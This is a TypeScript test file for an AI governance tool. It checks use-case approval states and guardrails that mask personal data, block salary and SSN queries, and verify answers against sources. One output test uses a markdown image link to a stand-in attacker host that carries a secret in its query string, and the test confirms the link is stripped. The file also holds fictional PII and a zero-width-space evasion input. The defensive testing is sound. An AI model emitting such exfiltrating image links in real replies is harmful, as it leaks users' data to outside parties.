import assert from "node:assert/strict";
import { globSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { readManifests } from "../../src/admin/read-manifests.ts";
import type { TextPart } from "../../src/core/inspection.ts";
import { compile } from "../../src/governance/compile.ts";
import { transitionOnApply, type LifecycleSettings } from "../../src/governance/lifecycle.ts";
import { manifestWarnings } from "../../src/governance/manifest-warnings.ts";
import { parseManifest } from "../../src/governance/parse-manifest.ts";
import type { GuardrailManifestSpec, UseCaseSpec } from "../../src/governance/schemas.ts";
import { checkGuardrail, guardrailWarnings } from "../../src/guardrails/check-guardrail.ts";
import { compileGuardrail } from "../../src/guardrails/compile-guardrail.ts";

const root = join(import.meta.dirname, "../../examples/campus");
const manifests = globSync("*.yaml", { cwd: root })
  .sort()
  .flatMap((file) => readManifests(readFileSync(join(root, file), "utf8")))
  .map(parseManifest);
const settings: LifecycleSettings = {
  sandboxApprovalDays: 180,
  productionApprovalDays: 365,
  approveOnApply: { maxDataClass: "internal", overlays: ["pii"] },
};
const now = Date.UTC(2026, 10, 21);

test("The campus applies without a warning, and each use case stands where its README says", () => {
  assert.deepEqual(manifests.flatMap(manifestWarnings), []);
  const versions = manifests.map(({ kind, name, canonical }) => ({ kind, name, version: 1, digest: name, spec: canonical }));
  const steps = manifests
    .filter(({ kind }) => kind === "UseCase")
    .flatMap(({ name, spec }) => {
      const step = transitionOnApply({ digest: name, spec: spec as unknown as UseCaseSpec }, undefined, settings, now);
      return step ? [{ ...step, useCase: name, reason: "applied" }] : [];
    });
  const register = compile(versions, steps);
  const states = [...register.entitlements.values()].map(({ useCase, state, refused, label, guardrail, models }) => ({
    useCase,
    state,
    refused: refused?.code,
    label,
    guardrail,
    models: models.length,
  }));
  assert.deepEqual(
    states.sort((a, b) => (a.useCase < b.useCase ? -1 : 1)),
    [
      { useCase: "hr-insights", state: "PRODUCTION", refused: undefined, label: undefined, guardrail: "hr@1", models: 1 },
      {
        useCase: "research-pilot",
        state: "SANDBOX",
        refused: undefined,
        label: "Research-Not for Production Use",
        guardrail: "research@1",
        models: 1,
      },
      {
        useCase: "student-advising",
        state: "DRAFT",
        refused: "use_case_not_approved",
        label: undefined,
        guardrail: "student-records@1",
        models: 1,
      },
    ],
  );
  for (const { models } of register.entitlements.values())
    for (const model of models) assert.ok((register.deploymentsByModel.get(model) ?? []).length > 0, model);
});

/** Prompt attack has its own tests; a scorer that finds none leaves the rest of the guardrail as it is. */
const calm = { whole: () => 0, windows: () => 0, thresholds: { LOW: 1, MEDIUM: 1, HIGH: 1 } };

test("The campus guardrails promise nothing that this version does not do, and hr keeps single people out of reach", () => {
  for (const { kind, name, spec } of manifests) {
    if (kind !== "Guardrail") continue;
    const effective = spec as unknown as GuardrailManifestSpec;
    assert.deepEqual(checkGuardrail(effective), [], name);
    assert.deepEqual(guardrailWarnings(effective), [], name);
    assert.ok(compileGuardrail(effective, calm));
  }
  const hr = manifests.find(({ kind, name }) => kind === "Guardrail" && name === "hr");
  const guardrail = compileGuardrail(hr?.spec as unknown as GuardrailManifestSpec, calm);
  const inspect = (text: string): { outcome: string; text: string } => {
    let seen = text;
    const part: TextPart = { surface: "user", text, replace: (masked) => (seen = masked) };
    const { outcome } = guardrail.inspectInput([part], { hash: () => "0f3a" });
    return { outcome, text: seen };
  };
  assert.equal(inspect("Which trainings do our departments need?").outcome, "clean");
  const masked = inspect("Ask dana@campus.example or +1 212 555 0187 about E123456");
  assert.equal(masked.outcome, "masked");
  for (const gone of ["dana", "0187", "E123456"]) assert.ok(!masked.text.includes(gone), masked.text);
  assert.ok(masked.text.includes("0f3a"), masked.text);
  assert.equal(inspect("Is 123-45-6789 on file?").outcome, "blocked");
  assert.equal(inspect("What is the individual\u200b  Salary of Dana?").outcome, "blocked");
});

test("The campus guardrails do what their README shows", () => {
  const compiled = (wanted: string) =>
    compileGuardrail(
      manifests.find(({ kind, name }) => kind === "Guardrail" && name === wanted)?.spec as unknown as GuardrailManifestSpec,
      calm,
    );
  const vault = { tokenOf: (type: string) => `{${type}:4f7k2m9x0q1z}`, valueOf: () => "Maria Gonzalez" };
  const inspect = (name: string, side: "input" | "output", text: string, sources: readonly string[] = []) => {
    let seen = text;
    const part: TextPart = {
      surface: side === "input" ? "user" : "assistant",
      text,
      replace: (masked) => (seen = masked),
    };
    const context = { hash: () => "0f3a", vault, prompt: { system: [], sources, query: "" } };
    const guardrail = compiled(name);
    const { outcome, findings } =
      side === "input" ? guardrail.inspectInput([part], context) : guardrail.inspectOutput([part], context);
    return { outcome, text: seen, types: findings.map(({ type }) => type) };
  };
  const asked = inspect("hr", "input", "Which trainings did Maria Gonzalez (E123456) attend?");
  assert.equal(asked.text, "Which trainings did {NAME:4f7k2m9x0q1z} ({employee-id:0f3a}) attend?");
  assert.equal(inspect("hr", "output", "{NAME:4f7k2m9x0q1z} attended two.").text, "Maria Gonzalez attended two.");
  assert.deepEqual(inspect("hr", "input", "How much does Lee earn?").types, ["individual-salaries"]);
  assert.equal(inspect("hr", "output", "Two. ![x](https://evil.example/p.png?d=secret)").text, "Two. x");
  for (const text of [
    "Which departments asked for safety trainings in spring?",
    "Draft a note to staff about the new trainings, and thank everybody who took part.",
    "How do we handle a complaint about harassment? Which training fits?",
    "What did the trainings cost us last year, by department?",
  ]) {
    assert.equal(inspect("hr", "input", text).outcome, "clean", text);
    assert.equal(inspect("hr", "output", text).outcome, "clean", text);
  }
  const named = inspect("research", "input", "Did Maria Gonzalez cite the Larkspur preprint?");
  assert.equal(named.text, "Did Maria Gonzalez cite the {unpublished}?");
  assert.ok(named.types.includes("NAME"));
  const record = ["The student took Calculus in autumn and passed with a B."];
  assert.equal(inspect("student-records", "output", "The student passed Calculus with a B.", record).outcome, "clean");
  assert.equal(inspect("student-records", "output", "The student failed Physics twice.", record).outcome, "blocked");
  assert.equal(inspect("student-records", "output", "Kestrel 7731.").outcome, "blocked");
});
